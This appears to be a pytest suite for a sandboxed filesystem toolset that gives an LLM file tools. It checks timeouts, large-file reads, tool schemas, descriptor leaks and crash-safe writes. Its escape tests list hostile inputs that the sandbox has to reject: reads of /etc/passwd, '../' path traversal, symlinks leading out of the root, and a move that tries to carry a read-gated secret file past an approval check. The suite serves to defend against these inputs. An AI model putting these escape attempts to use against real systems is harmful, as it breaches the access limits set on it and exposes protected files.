        flat = env.host / "ws" / "flat"
        flat.mkdir()
        for i in range(30_000):
            (flat / f"f{i:05d}.txt").write_bytes(b"")
    else:
        for i in range(30_000):
            ts.write(f"/ws/flat/f{i:05d}.txt", "")
    _budget(ts, 0.001)
    problems = []
    for name, call in (
        ("list_files **/*", lambda: ts.list_files("/ws/flat", "**/*")),
        ("list_files *.txt", lambda: ts.list_files("/ws/flat", "*.txt")),
        ("list_directory", lambda: ts.list_directory("/ws/flat")),
    ):
        try:
            call()
        except FilesystemTimeoutError:
            continue
        problems.append(name)
    assert not problems, f"not stopped by a 1 ms budget over 30,000 entries: {problems}"


def test_timeout_stops_indexing_a_large_read(env: Env) -> None:
    ts = env.make(max_write_bytes=10**9, max_file_bytes=None, max_total_bytes=None)
    ts.write("/ws/huge.txt", "ü" * 10_000_000)
    _budget(ts, 0.001)
    with pytest.raises(FilesystemTimeoutError):
        ts.read("/ws/huge.txt", offset=9_000_000, max_chars=10)


# --------------------------------------------------------- large file slices
def test_large_file_slices_match_decoded_text(env: Env) -> None:
    rng = random.Random(7)
    alphabet = "aé€😀\nZ"
    text = "".join(rng.choice(alphabet) for _ in range(2_300_000))
    data = text.encode("utf-8")
    assert 4_500_000 < len(data) < 6_500_000
    ts = env.make(max_file_bytes=None, max_write_bytes=10**8, max_total_bytes=None, max_read_bytes=10**7)
    if env.kind == "host":
        (env.host / "ws/u.txt").write_bytes(data)
    else:
        ts.write("/ws/u.txt", text)
    offsets = [0, 1, 65535, 65536, 65537, 1 << 20, len(text) // 2, len(text) - 1, len(text), len(text) + 3]
    offsets += [rng.randrange(len(text)) for _ in range(150)]
    for off in offsets:
        for n in (0, 1, 3, 4097, 70_000):
            r = ts.read("/ws/u.txt", offset=off, max_chars=n)
            assert r.content == text[off : off + n], (off, n)
            assert r.total_chars == len(text)
            assert r.truncated == (off + len(r.content) < len(text))
    ts.limits = ts.limits.model_copy(update={"max_read_bytes": 262_144})  # the default per read
    r = ts.read("/ws/u.txt", offset=12345, max_chars=200_000)
    assert text[12345:].startswith(r.content) and 0 < len(r.content.encode()) <= 262_144
    # A new version of the file must not be sliced with the old index.
    text2 = text[::-1]
    if env.kind == "host":
        (env.host / "ws/u.txt").write_bytes(text2.encode())
    else:
        ts.write("/ws/u.txt", text2)
    for off in (0, 777_777, len(text2) - 10):
        assert ts.read("/ws/u.txt", offset=off, max_chars=50).content == text2[off : off + 50]


# ------------------------------------------------------------------ LLM tools
def test_tool_definitions(env: Env) -> None:
    ts = env.make()
    defs = ts.tool_definitions()
    names = {d["function"]["name"] for d in defs}
    assert names == {
        "read_file", "view_file", "write_file", "edit_file", "delete_file", "move_file", "copy_file",
        "list_files", "list_directory",
    }
    for d in defs:
        assert d["type"] == "function"
        params = d["function"]["parameters"]
        assert params["type"] == "object" and params["additionalProperties"] is False
        assert "Readable: ws, scratch, ref, gated" in d["function"]["description"]
        json.dumps(d)
    read_only = env.make(sandbox=Sandbox(env.config).derive(allow_read="/ref"))
    assert {d["function"]["name"] for d in read_only.tool_definitions()} == {
        "read_file", "view_file", "list_files", "list_directory",
    }


def test_call_dispatch_and_bad_arguments(env: Env) -> None:
    ts = env.make()
    out = ts.call("write_file", {"path": "/ws/c.txt", "content": "hi there"})
    assert out["bytes_written"] == 8 and out["created"] is True
    out = ts.call("read_file", json.dumps({"path": "/ws/c.txt", "offset": 3}))
    assert out["content"] == "there" and out["content_encoding"] == "utf-8"
    assert ts.call("list_directory", {"path": "/ws"})["entries"] == [{"name": "c.txt", "type": "file", "size": 8}]
    assert ts.call("list_files", {"path": "/ws"})["files"] == ["ws/c.txt"]
    assert ts.call("edit_file", {"path": "/ws/c.txt", "old_text": "hi", "new_text": "oh"})["replaced"] == 1
    assert ts.call("view_file", {"path": "/ws/c.txt"})["lines"] == ["     1\toh there"]
    ts.call("copy_file", {"source": "/ws/c.txt", "destination": "/ws/d.txt"})
    ts.call("move_file", {"source": "/ws/d.txt", "destination": "/ws/e.txt"})
    ts.call("delete_file", {"path": "/ws/e.txt"})
    json.dumps(out)
    bad_calls = [
        ("nope", {}),
        ("read_file", {}),
        ("read_file", {"path": 5}),
        ("read_file", {"path": "/ws/c.txt", "offset": -1}),
        ("read_file", {"path": "/ws/c.txt", "bogus": 1}),
        ("read_file", "{not json"),
        ("read_file", "[1, 2]"),
        ("write_file", {"path": "/ws/x.txt"}),
        ("view_file", {"path": "/ws/c.txt", "start_line": 0}),
        ("move_file", {"source": "/ws/c.txt"}),
    ]
    for name, args in bad_calls:
        with pytest.raises(ToolError):
            ts.call(name, args)  # type: ignore[arg-type]
    with pytest.raises(PathNotInSandboxError):
        ts.call("read_file", {"path": "/etc/passwd"})


# ------------------------------------------------------------ FilesystemTool
def run(coro):
    return asyncio.run(coro)


def test_filesystem_tool_seed_examples(tmp_path: Path) -> None:
    ws = tmp_path / "workspace"
    ws.mkdir()
    (ws / "data.txt").write_text("some data")
    fs = FilesystemTool(allowed_directories=[str(ws)])
    assert fs.name == "filesystem"
    assert fs.schema()["function"]["parameters"]["required"] == ["action", "path"]
    assert run(fs.execute(action="read", path=str(ws / "data.txt"))) == "some data"
    out = run(fs.execute(action="write", path=str(ws / "output.txt"), content="Hello, world!"))
    assert out == f"Wrote 13 chars to {ws / 'output.txt'}"
    assert (ws / "output.txt").read_text() == "Hello, world!"
    listing = run(fs.execute(action="list", path=str(ws)))
    assert listing == {
        "directory": str(ws),
        "entries": [{"name": "data.txt", "type": "file"}, {"name": "output.txt", "type": "file"}],
    }
    run(fs.execute(action="write", path=str(ws / "deep/er/x.txt"), content="x"))
    assert (ws / "deep/er/x.txt").read_text() == "x"
    fs.toolset.close()


def test_filesystem_tool_refusals(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    ws = tmp_path / "workspace"
    ws.mkdir()
    (tmp_path / "secret.txt").write_text("s")
    os.symlink(tmp_path / "secret.txt", ws / "link.txt")
    os.symlink(tmp_path, ws / "up")
    fs = FilesystemTool(allowed_directories=[str(ws)])
    monkeypatch.chdir(ws)
    assert run(fs.execute(action="write", path="rel.txt", content="r")) == "Wrote 1 chars to rel.txt"
    assert (ws / "rel.txt").read_text() == "r"
    attempts = [
        dict(action="read", path="/etc/passwd"),
        dict(action="read", path=str(tmp_path / "secret.txt")),
        dict(action="read", path=str(ws / ".." / "secret.txt")),
        dict(action="read", path="../secret.txt"),
        dict(action="read", path=str(ws / "link.txt")),
        dict(action="read", path=str(ws / "up/secret.txt")),
        dict(action="write", path=str(ws / "up/new.txt"), content="x"),
        dict(action="list", path=str(tmp_path)),
        dict(action="delete", path=str(ws / "rel.txt")),
        dict(action="write", path=str(ws / "x.txt")),
        dict(action="read", path=""),
        dict(action="read", path=str(ws / "missing.txt")),
        dict(action="read", path=str(ws)),
    ]
    for kwargs in attempts:
        with pytest.raises(ToolError):
            run(fs.execute(**kwargs))
    assert not (tmp_path / "new.txt").exists()
    assert (ws / "rel.txt").exists()
    fs.toolset.close()


def test_filesystem_tool_wraps_every_filesystem_failure(tmp_path: Path) -> None:
    """orbiter: ToolError when the filesystem operation fails, whatever the OS said."""
    ws = tmp_path / "ws"
    ws.mkdir()
    os.mkfifo(ws / "pipe.txt")
    fs = FilesystemTool(allowed_directories=[str(ws)])
    with pytest.raises(ToolError):
        run(fs.execute(action="read", path=str(ws / "pipe.txt")))
    with pytest.raises(ToolError):
        run(fs.execute(action="write", path=str(ws / ("n" * 300 + ".txt")), content="x"))
    fs.toolset.close()


def test_toolset_os_errors_are_sandbox_errors(host_env: Env) -> None:
    ts = host_env.make()
    os.mkfifo(host_env.host / "ws/pipe.txt")
    with pytest.raises(SandboxError):
        ts.read("/ws/pipe.txt")
    with pytest.raises(SandboxError):
        ts.write("/ws/" + "n" * 300, "x")


# ------------------------------------------------------------------ symlinks
def test_symlinks_out_of_root_refused(host_env: Env) -> None:
    h, tmp = host_env.host, host_env.tmp
    os.symlink(tmp / "outside/secret.txt", h / "ws/s.txt")
    os.symlink(tmp / "outside", h / "ws/outdir")
    os.symlink("../../outside", h / "ws/rel")
    os.symlink("../ref", h / "ws/to_ref")
    ts = host_env.make()
    messages = []
    for path in ("/ws/s.txt", "/ws/outdir/secret.txt", "/ws/rel/secret.txt", "/ws/to_ref/readme.txt"):
        with pytest.raises(PathNotInSandboxError) as info:
            ts.read(path)
        messages.append(str(info.value))
    for path in ("/ws/outdir/new.txt", "/ws/rel/new.txt", "/ws/s.txt"):
        with pytest.raises(PathNotInSandboxError) as info:
            ts.write(path, "pwn")
        messages.append(str(info.value))
    with pytest.raises(PathNotInSandboxError):
        ts.list_files("/ws/outdir")
    with pytest.raises(PathNotInSandboxError):
        ts.copy("/ws/s.txt", "/ws/copy.txt")
    assert (tmp / "outside/secret.txt").read_text() == "TOP SECRET"
    assert sorted(os.listdir(tmp / "outside")) == ["secret.txt"]
    for message in messages:
        assert str(tmp) not in message
    os.symlink("deep", h / "ref/inside")
    assert ts.read("/ref/inside/notes.md").content == "# notes\n"
    strict = host_env.make(deny_symlinks=True)
    with pytest.raises(PathNotInSandboxError):
        strict.read("/ref/inside/notes.md")


def test_derived_grant_cannot_be_left_through_in_root_symlink(host_env: Env) -> None:
    (host_env.host / "ws/private").mkdir()
    (host_env.host / "ws/private/p.txt").write_text("private")
    (host_env.host / "ws/public").mkdir()
    os.symlink("../private", host_env.host / "ws/public/link")
    child = Sandbox(host_env.config).derive(allow_read="/ws/public", allow_write="/ws/public")
    ts = host_env.make(sandbox=child)
    with pytest.raises(PathNotInSandboxError):
        ts.read("/ws/private/p.txt")
    with pytest.raises(PathNotInSandboxError):
        ts.read("/ws/public/link/p.txt")
    with pytest.raises(PathNotInSandboxError):
        ts.write("/ws/public/link/p.txt", "overwritten")
    assert (host_env.host / "ws/private/p.txt").read_text() == "private"


def test_copy_of_symlink_respects_size_and_quota(host_env: Env) -> None:
    (host_env.host / "ref/big.txt").write_text("x" * 100_000)
    os.symlink("big.txt", host_env.host / "ref/small_looking.txt")
    ts = host_env.make(max_total_bytes=1_000, max_file_bytes=2_000)
    with pytest.raises(QuotaExceededError):  # FileTooLargeError is one
        ts.copy("/ref/big.txt", "/ws/a.txt")
    with pytest.raises(QuotaExceededError):
        ts.copy("/ref/small_looking.txt", "/ws/b.txt")
    assert disk_total(host_env.host / "ws") <= 1_000


def test_move_cannot_launder_a_read_approval(tmp_path: Path) -> None:
    for d in ("secret", "public"):
        (tmp_path / d).mkdir()
    (tmp_path / "secret/s.txt").write_text("TOP SECRET")
    config = SandboxConfig(
        paths={
            "secret": PathConfig(root=str(tmp_path / "secret"), mode="rw", write_approval=False, read_approval=True),
            "public": PathConfig(root=str(tmp_path / "public"), mode="rw", write_approval=False),
        }
    )
    asked: list[tuple[str, str]] = []

    def deny_reads(request: ApprovalRequest) -> bool:
        asked.append((request.operation, request.access))
        return request.access != "read"

    ts = FileSystemToolset(Sandbox(config), broker=ApprovalBroker(CallbackResponder(deny_reads)))
    with pytest.raises(ApprovalDeniedError):
        ts.read("/secret/s.txt")
    with pytest.raises(ApprovalDeniedError):
        ts.copy("/secret/s.txt", "/public/c.txt")
    try:
        ts.move("/secret/s.txt", "/public/m.txt")
    except ApprovalDeniedError:
        pass
    leaked = (tmp_path / "public/m.txt").exists() and ts.read("/public/m.txt").content == "TOP SECRET"
    ts.close()
    assert not leaked, f"a read-gated file was moved to an ungated root without a read approval; asked: {asked}"


# ----------------------------------------------------------------- fds
def test_no_fds_left_open(host_env: Env) -> None:
    base = fd_count()
    ts = host_env.make()
    _tree(ts)
    ts.read("/ws/a.txt")
    ts.view("/ws/a.txt")
    ts.list_files("/ws")
    ts.list_directory("/ws/sub")
    ts.copy("/ref/readme.txt", "/scratch/r.txt")
    ts.move("/scratch/r.txt", "/ws/r.txt")
    ts.edit("/ws/r.txt", "reference", "ref")
    ts.delete("/ws/r.txt")
    for bad in (lambda: ts.read("/ws/none"), lambda: ts.write("/ref/x", "x"), lambda: ts.edit("/ws/a.txt", "q", "z")):
        with pytest.raises(SandboxError):
            bad()
    ts.close()
    assert fd_count() == base


def test_no_fds_held_by_a_failed_listing(host_env: Env) -> None:
    ts = host_env.make(max_list_entries=5)
    for i in range(10):
        ts.write(f"/ws/a/b/c/f{i}.txt", "x")
    ts.read("/ws/a/b/c/f1.txt")  # the root fd is open from here on
    base = fd_count()
    with pytest.raises(QuotaExceededError) as info:
        ts.list_files("/ws")
    assert fd_count() == base, "the walk's folder fds stay open while the error is alive"
    del info


def test_no_fds_leaked_by_timed_out_listings(host_env: Env) -> None:
    ts = host_env.make()
    ts.write("/ws/a/b/f.txt", "x")
    ts.read("/ws/a/b/f.txt")
    gc.collect()  # earlier tests' garbage must not close fds during the count
    base = fd_count()
    ts.limits = ts.limits.model_copy(update={"operation_timeout": 1e-9})
    for _ in range(5):
        with pytest.raises(FilesystemTimeoutError):
            ts.list_files("/ws")
        with pytest.raises(FilesystemTimeoutError):
            ts.list_files("/ws/a", "**/*.txt")
    gc.collect()
    assert fd_count() == base
    ts.close()


# ---------------------------------------------------------- crash atomicity
CHILD = textwrap.dedent(
    """
    import sys
    from sandbox_kernel_ext import FileLimits, FileSystemToolset, PathConfig, Sandbox, SandboxConfig
    root, size = sys.argv[1], int(sys.argv[2])
    sandbox = Sandbox(SandboxConfig(paths={"data": PathConfig(root=root, mode="rw", write_approval=False)}))
    ts = FileSystemToolset(sandbox, limits=FileLimits(
        max_write_bytes=10**9, max_file_bytes=None, max_total_bytes=None, operation_timeout=600))
    for i in range(3000):
        header = "%08d\\n" % i
        ts.write("/data/f%02d.txt" % (i % 12), header + "x" * (size - len(header)))
        print(i, flush=True)
    """
)


def test_sigkill_mid_write_leaves_no_partial_file(tmp_path: Path) -> None:
    root = tmp_path / "root"
    root.mkdir()
    size = 3_000_000
    env = {k: v for k, v in os.environ.items() if not k.startswith(ENV_PREFIX)}
    env["PYTHONPATH"] = str(REPO)
    child = subprocess.Popen(
        [sys.executable, "-c", CHILD, str(root), str(size)], stdout=subprocess.PIPE, text=True, env=env, cwd=tmp_path
    )
    try:
        for _ in range(3):
            assert child.stdout is not None and child.stdout.readline().strip()
        killed_mid_write = False
        for _ in range(200_000):  # poll until a write is in flight, then kill it
            if any(n.endswith(TEMP_SUFFIX) for n in os.listdir(root)):
                child.send_signal(signal.SIGKILL)
                killed_mid_write = True
                break
            if child.poll() is not None:
                break
        assert killed_mid_write, "never caught a write in flight"
    finally:
        if child.poll() is None:
            child.kill()
        child.wait()
        if child.stdout is not None:
            child.stdout.close()
    assert child.returncode == -signal.SIGKILL
    finals = sorted(n for n in os.listdir(root) if not n.endswith(TEMP_SUFFIX))
    temps = sorted(n for n in os.listdir(root) if n.endswith(TEMP_SUFFIX))
    assert finals and all(n.startswith("f") and n.endswith(".txt") for n in finals), finals
    for name in finals:
        data = (root / name).read_bytes()
        assert len(data) == size, f"{name} is partial ({len(data)} bytes)"
        index = int(data[:8])
        assert data[8:9] == b"\n" and index % 12 == int(name[1:3])
        assert data[9:] == b"x" * (size - 9)
    # What a SIGKILL leaves: at most the one unfinished hidden temp file.
    assert len(temps) <= 1, temps
    for name in temps:
        assert name.startswith(".f") and (root / name).stat().st_size <= size
